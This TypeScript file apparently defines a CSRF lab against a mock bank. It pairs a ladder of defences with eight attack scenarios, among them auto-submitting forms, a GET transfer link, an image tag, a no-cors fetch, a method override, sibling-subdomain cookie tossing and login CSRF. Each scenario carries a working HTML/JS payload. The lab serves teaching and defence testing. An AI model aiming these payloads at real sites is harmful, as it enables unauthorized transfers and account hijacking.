import { type AttackOf, notWritten, sameSiteNone } from './attack.ts';
import type { DefenceId } from './defences.ts';

const ladder: readonly DefenceId[] = [
  'same-site-lax',
  'same-site-strict',
  'post-only',
  'synchronizer-token',
  'naive-double-submit',
  'signed-double-submit',
  'origin-check',
  'fetch-metadata',
  'json-only',
];

const formTo = (bank: string) => `<form action="${bank}/transfer" method="post">
  <input name="to" value="mallory">
  <input name="amount" value="100">
</form>
<script>document.forms[0].submit()</script>`;

const common = {
  lab: 'csrf',
  goal: 'Alice’s balance goes down.',
  aim: 'money',
  victim: 'logged-in',
  ifUnseen: 'not-carried-out',
  defences: ladder,
} as const;

/** Lab 2: another page makes Alice's browser send a request that changes something. */
export const csrf = [
  {
    ...common,
    id: 'csrf-post',
    title: 'A form POST, fresh cookie',
    story: 'A page of another site submits a form to the bank as soon as Alice opens it, right after her login.',
    ground: 'other-page',
    weakness: notWritten,
    exploit: formTo('{{bank}}'),
    sign: { at: 'bank', method: 'POST', path: '/transfer' },
    probe: 'other/form-post',
  },
  {
    ...common,
    id: 'csrf-get',
    title: 'A link that transfers',
    story: 'The bank also transfers on GET. A page of another site navigates Alice’s browser to that address.',
    ground: 'other-page',
    weakness: notWritten,
    exploit: `<script>location.href = '{{bank}}/transfer?to=mallory&amount=100'</script>`,
    sign: { at: 'bank', method: 'GET', path: '/transfer' },
    probe: 'other/location',
  },
  {
    ...common,
    id: 'csrf-post-old',
    title: 'A form POST, cookie older than two minutes',
    story:
      'The same form, when the cookie is older than two minutes. A browser that treats a missing SameSite as Lax sends a fresh cookie, but not an old one.',
    ground: 'other-page',
    cookieAge: 'older-than-two-minutes',
    weakness: notWritten,
    exploit: formTo('{{bank}}'),
    sign: { at: 'bank', method: 'POST', path: '/transfer' },
    probe: 'other/form-post',
  },
  {
    ...common,
    id: 'csrf-image',
    title: 'An image that transfers',
    story: 'The bank’s cookie has SameSite=None. An image on another site’s page requests the transfer.',
    ground: 'other-frame',
    weakness: sameSiteNone,
    exploit: `<img src="{{bank}}/transfer?to=mallory&amp;amount=100" alt="A kitten">`,
    sign: { at: 'bank', method: 'GET', path: '/transfer' },
    probe: 'other/image',
  },
  {
    ...common,
    id: 'csrf-fetch',
    title: 'A fetch with text/plain',
    story:
      'The bank parses JSON whatever the content type is. A fetch with text/plain needs no preflight, so it reaches the bank, although the page cannot read the response.',
    ground: 'other-frame',
    weakness: sameSiteNone,
    exploit: `<script>
  fetch('{{bank}}/transfer', {
    method: 'POST',
    mode: 'no-cors',
    credentials: 'include',
    headers: { 'content-type': 'text/plain' },
    body: JSON.stringify({ to: 'mallory', amount: '100' }),
  });
</script>`,
    sign: { at: 'bank', method: 'POST', path: '/transfer' },
    probe: 'other/fetch-include-no-cors',
  },
  {
    ...common,
    id: 'csrf-override',
    title: 'A method override',
    story:
      'The bank takes the method from _method in the address, as some frameworks do for forms. So a top-level GET, which Lax allows, becomes a POST.',
    ground: 'other-page',
    weakness: notWritten,
    exploit: `<script>location.href = '{{bank}}/transfer?_method=POST&to=mallory&amount=100'</script>`,
    sign: { at: 'bank', method: 'POST', path: '/transfer' },
    probe: 'other/location',
  },
  {
    ...common,
    id: 'csrf-sibling',
    title: 'A form POST from the sibling',
    story:
      'The shop’s host belongs to the bank’s site, so its requests are same-site. Its page also sets a cookie for the bank, with a value that it chooses and a longer Path, and puts the same value into the form.',
    ground: 'sibling-page',
    weakness: notWritten,
    exploit: `<script>
  document.cookie = '{{csrf}}=chosen; Domain={{host}}; Path={{path}}/transfer; Max-Age=60';
</script>
<form action="{{bank}}/transfer" method="post">
  <input name="to" value="mallory">
  <input name="amount" value="100">
  <input name="_csrf" value="chosen">
</form>
<script>document.forms[0].submit()</script>`,
    sign: { at: 'bank', method: 'POST', path: '/transfer' },
    probe: 'sibling/form-post',
  },
  {
    ...common,
    id: 'csrf-login',
    title: 'Login CSRF',
    story:
      'A page of another site logs Alice’s browser in as Mallory. What Alice enters then goes to Mallory’s account.',
    goal: 'Alice’s browser is logged in as Mallory.',
    aim: 'browser',
    victim: 'never-logged-in',
    ground: 'other-page',
    weakness: notWritten,
    exploit: `<form action="{{bank}}/login" method="post">
  <input name="user" value="mallory">
  <input name="password" value="correct horse">
</form>
<script>document.forms[0].submit()</script>`,
    sign: { at: 'bank', method: 'POST', path: '/login' },
    defences: ladder.filter((id) => id !== 'post-only'),
    probe: null,
  },
] as const satisfies readonly AttackOf<string>[];
